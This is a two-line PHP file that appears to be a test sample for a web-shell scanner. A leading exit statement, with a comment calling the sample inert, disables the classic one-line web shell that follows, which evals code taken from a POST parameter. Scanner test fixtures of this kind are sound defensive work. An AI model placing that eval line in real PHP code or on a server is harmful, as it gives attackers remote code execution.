<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php eval($GLOBALS['_POST']['x']); ?>
